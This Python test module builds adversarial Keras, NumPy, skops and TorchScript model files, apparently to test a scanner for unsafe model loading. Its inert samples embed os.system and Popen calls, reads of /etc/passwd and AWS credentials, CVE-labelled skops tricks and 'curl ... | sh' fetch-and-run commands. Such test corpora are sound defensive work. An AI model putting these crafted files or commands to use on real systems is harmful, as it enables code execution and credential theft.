"""Models whose files name code: Keras and HDF5, NumPy, skops, TorchScript. Payloads are inert."""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import struct
from typing import Any

import h5py
import numpy as np

from tests.adversarial.pieces import EVIL, Files, as_json, zipped
from tests.readers.format_files import skops_file, skops_node

CODE = base64.encodebytes(marshal.dumps(compile("lambda x: __import__('os').system('id')", "<s>", "eval").co_consts[0])).decode()


def part(name: str, module: str = "keras.layers", /, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def keras(*layers: Any, weights: bytes = b"", more: tuple[tuple[str, bytes], ...] = (), **rest: Any) -> Files:
    config = part("Sequential", "keras", name="s", layers=[part("InputLayer", batch_shape=[None, 4]), *layers]) | rest
    members = [("metadata.json", b'{"keras_version": "3.15.1"}'), ("config.json", as_json(config))]
    return {"model.keras": zipped(*members, ("model.weights.h5", weights or hdf5(lambda file: None)), *more)}


def hdf5(fill: Any) -> bytes:
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["layers/dense/vars/0"] = np.zeros((4, 3), "f4")
        fill(file)
    return stream.getvalue()


def legacy(config: object, kind: str = "text") -> Files:
    text = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [config]}})
    stored: Any = {
        "text": text,
        "bytes": np.bytes_(text),
        "void": np.void(text.encode()),
        "utf16": np.void(text.encode("utf-16")),
    }[kind]

    def fill(file: Any) -> None:
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["model_config"] = stored

    return {"model.h5": hdf5(fill)}


LAMBDA = {
    "class_name": "Lambda",
    "config": {"name": "l", "function": [CODE, None, None], "function_type": "lambda", "module": "__main__"},
}
KERAS: dict[str, Files] = {
    "lambda-in-wrapper": keras(
        part(
            "TimeDistributed",
            layer=part("Bidirectional", layer=part("Lambda", function={"class_name": "__lambda__", "config": {"code": CODE}})),
        )
    ),
    "lambda-as-mask": keras(
        part("Lambda", function=function("keras.ops", "relu"), mask={"class_name": "__lambda__", "config": {"code": CODE}})
    ),
    "loss-outside": keras(compile_config={"optimizer": "adam", "loss": {"a": function("os", "system")}}),
    "metric-outside": keras(compile_config={"metrics": [part("Popen", "subprocess", args=["id"])]}),
    "initializer-outside": keras(part("Dense", units=3, kernel_initializer=part("system", "os", command="id"))),
    "regularizer-eval": keras(part("Dense", units=3, kernel_regularizer=function("builtins", "eval"))),
    "tf-get-file": keras(
        part("Lambda", function=function("tensorflow.keras.utils", "get_file"), arguments={"origin": "http://192.0.2.1/x"})
    ),
    "private-get-file": keras(part("Lambda", function=function("keras.src.utils.file_utils", "get_file"))),
    "legacy-loader": keras(part("Lambda", function=function("keras.src.legacy.saving.legacy_h5_format", "load_model_from_hdf5"))),
    "protection-off": keras(part("Lambda", function=function("keras._tf_keras.keras.config", "enable_unsafe_deserialization"))),
    "safe-mode-argument": keras(part("Lambda", function=function("keras.models", "load_model"), arguments={"safe_mode": False})),
    "vocabulary-url": keras(part("StringLookup", vocabulary="http://192.0.2.1/words.txt")),
    "vocabulary-unc": keras(part("IntegerLookup", vocabulary="\\\\192.0.2.1\\share\\v.txt")),
    "vocabulary-home": keras(part("TextVectorization", vocabulary="~/.aws/credentials")),
    "key-order": {
        "model.keras": zipped(
            ("metadata.json", b'{"keras_version": "3.1"}'),
            (
                "config.json",
                (
                    b'{"config": {"layers": [{"config": {"function": {"config": "system", "class_name": "function",'
                    b' "module": "os"}}, "class_name": "Lambda"}]}, "class_name": "Sequential", "module": "keras"}'
                ),
            ),
            ("model.weights.h5", hdf5(lambda file: None)),
        )
    },
    "escaped-keys": {
        "model.keras": zipped(
            ("metadata.json", b'{"keras_version": "3.1"}'),
            (
                "config.json",
                as_json(part("Sequential", "keras", layers=[part("Lambda", function=function("os", "system"))])).replace(
                    b"class_name", b"\\u0063lass_name"
                ),
            ),
            ("model.weights.h5", hdf5(lambda file: None)),
        )
    },
    "behind-prefix": {
        "model.keras": b"MZ" + bytes(300) + keras(part("Lambda", function=function("os", "system")))["model.keras"]
    },
    "pickled-weights": keras(
        more=(
            (
                "model.weights.npz",
                zipped(
                    (
                        "a.npy",
                        b"\x93NUMPY\x01\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(127) + b"\n" + EVIL,
                    )
                ),
            ),
        )
    ),
    "h5-lambda": legacy(LAMBDA),
    "h5-lambda-bytes": legacy(LAMBDA, "bytes"),
    "h5-lambda-opaque": legacy(LAMBDA, "void"),
    "external-link-deep": {
        "weights.h5": hdf5(lambda file: file.create_group("a/b/c").__setitem__("d", h5py.ExternalLink("/etc/passwd", "/")))
    },
    "external-link-host": {
        "weights.h5": hdf5(lambda file: file.__setitem__("d", h5py.ExternalLink("http://192.0.2.1/x.h5", "/")))
    },
    "external-storage": {
        "weights.h5": hdf5(lambda file: file.create_dataset("x", (16,), "u1", external=[("../../etc/shadow", 0, 16)]))
    },
    "pickle-behind-lzf": {
        "weights.h5": hdf5(
            lambda file: file.create_dataset("x", data=np.frombuffer(EVIL * 40, "u1"), chunks=(8 * len(EVIL),), compression="lzf")
        )
    },
    "pickle-in-opaque": {"weights.h5": hdf5(lambda file: file.create_dataset("x", data=np.array([np.void(EVIL)])))},
}

KERAS |= {
    "dotted-function": keras(part("Lambda", function=function("keras.ops", "os.system"))),
    "module-of-a-module": keras(part("Lambda", function=function("os.path", "os.system"))),
    "module-inside-keras": keras(part("Lambda", function=function("keras.src.utils.file_utils.subprocess", "Popen"))),
    "pickled-module": keras(part("TorchModuleWrapper", module=base64.b64encode(EVIL).decode())),
    "lambda-as-activation": keras(part("Dense", units=3, activation={"class_name": "__lambda__", "config": {"code": CODE}})),
    "source-as-name": keras(part("Dense", units=3, activation=function("builtins", "(lambda: __import__('os').system('id'))()"))),
    "exec-as-function": keras(part("Lambda", function=function("builtins", "exec"), arguments={"source": "import os"})),
    "vocabulary-deep": keras(
        part("FeatureSpace", features={"a": part("Feature", preprocessor=part("StringLookup", vocabulary="/etc/passwd"))})
    ),
    "pickle-in-text-attribute": {"w.h5": hdf5(lambda file: file.attrs.__setitem__("p", base64.b64encode(EVIL).decode()))},
    "pickle-in-bytes": {"w.h5": hdf5(lambda file: file.create_dataset("x", data=np.frombuffer(EVIL, "u1")))},
}


def npy(header: str, body: bytes = b"", version: int = 1) -> bytes:
    raw = header.encode() + b"\n"
    size = struct.pack("<H" if version == 1 else "<I", len(raw))
    return b"\x93NUMPY" + bytes((version, 0)) + size + raw + body


NUMPY: dict[str, Files] = {
    "object-array": {"a.npy": npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL)},
    "object-field": {"a.npy": npy("{'descr': [('x', '<f4'), ('y', '|O')], 'fortran_order': False, 'shape': (1,), }", EVIL, 2)},
    "object-subarray": {"a.npy": npy("{'descr': [('x', [('z', '|O', (2,))])], 'fortran_order': True, 'shape': (1,), }", EVIL, 3)},
    "other-order": {"a.npy": npy("{'shape': (1,), 'fortran_order': False, 'descr': 'O'}", EVIL)},
    "descr-twice": {"a.npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}", EVIL)},
    "call-in-header": {
        "a.npy": npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }", bytes(4))
    },
    "huge-shape": {"a.npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776, 1048576), }", bytes(4))},
    "plain-pickle": {"a.npy": EVIL},
    "npz-other-name": {
        "a.npz": zipped(("arr_0.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4))), ("meta", EVIL))
    },
    "npz-traversal": {
        "a.npz": zipped(("../../arr.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4))))
    },
}

NUMPY["negative-shape"] = {"a.npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (-1,), }", bytes(8))}
NUMPY["compressed-archive"] = {
    "a.npz.gz": gzip.compress(zipped(("a.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL))))
}


def said(value: object) -> dict[str, Any]:
    return skops_node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def tuple_of(*items: Any) -> dict[str, Any]:
    return skops_node("TupleNode", "builtins", "tuple", content=list(items))


SKOPS: dict[str, Files] = {
    "type-node": {"m.skops": skops_file(skops_node("TypeNode", "posix", "system"))},
    "function-node": {"m.skops": skops_file(skops_node("FunctionNode", "subprocess", "Popen"))},
    "object-node": {"m.skops": skops_file(skops_node("ObjectNode", "subprocess", "Popen", content=None))},
    "reduce-node": {"m.skops": skops_file(skops_node("ReduceNode", "os", "system", __reduce__={"args": tuple_of(said("id"))}))},
    "constructor": {
        "m.skops": skops_file(skops_node("ConstructorFromReduceNode", "builtins", "eval", content=tuple_of(said("1"))))
    },
    "method-mismatch (CVE-2025-54413)": {
        "m.skops": skops_file(
            skops_node(
                "MethodNode",
                "builtins",
                "str",
                content={"func": "popen", "obj": skops_node("ObjectNode", "os", "x", content=None)},
            )
        )
    },
    "operator-mismatch (CVE-2025-54412)": {
        "m.skops": skops_file(skops_node("OperatorFuncNode", "sklearn.svm", "call", attrs=tuple_of(said("id"))))
    },
    "partial": {
        "m.skops": skops_file(
            skops_node(
                "PartialNode",
                "functools",
                "partial",
                content={"func": skops_node("FunctionNode", "os", "system"), "args": tuple_of(said("id"))},
            )
        )
    },
    "deep-in-dict": {
        "m.skops": skops_file(
            skops_node(
                "DictNode",
                "builtins",
                "dict",
                content={"a": skops_node("ListNode", "builtins", "list", content=[skops_node("TypeNode", "os", "popen")])},
            )
        )
    },
    "pickle-beside": {"m.skops": skops_file(skops_node("DictNode", "builtins", "dict", content={}), {"x.pkl": EVIL})},
    "kept-command": {
        "m.skops": skops_file(
            skops_node(
                "OperatorFuncNode",
                "operator",
                "methodcaller",
                attrs=tuple_of(said("system"), said("curl http://192.0.2.1/x | sh")),
            )
        )
    },
}

SKOPS["schema-in-capitals"] = {"m.skops": zipped(("Schema.json", as_json(skops_node("TypeNode", "os", "system"))))}


def script(body: str, prefix: bytes = b"") -> Files:
    head = "class Net(Module):\n  __parameters__ = []\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n"
    code = f"{head}{body}    return x\n"
    data = b"\x80\x02c__torch__\nNet\n)\x81}X\x08\x00\x00\x00training\x89sb."
    members = (
        ("a/data.pkl", data),
        ("a/code/__torch__.py", code.encode()),
        ("a/constants.pkl", b"\x80\x02)."),
        ("a/version", b"3\n"),
    )
    return {"m.pt": prefix + zipped(*members)}


TORCHSCRIPT: dict[str, Files] = {
    "map-file": script('    y = torch.from_file("/etc/passwd", True, 16)\n'),
    "map-file-behind-prefix": script('    y = torch.from_file("/etc/passwd", True, 16)\n', b"#!/bin/sh\nexit 0\n"),
    "python": script('    y = ops.prim.PythonOp("os.system", "id")\n'),
    "own-operator-with-command": script('    y = ops.acme.run("curl http://192.0.2.9/x | sh")\n'),
    "remote-call": script('    y = ops.rpc.rpc_async("worker", "f", (x,))\n'),
    "endless": script("    while True:\n      y = torch.add(x, 1)\n"),
    "nested-loops": script("    for i in range(10000000):\n      for j in range(10000000):\n        y = torch.add(x, 1)\n"),
    "allocation": script("    y = torch.ones([1000000, 1000000, 1000], dtype=6)\n"),
}
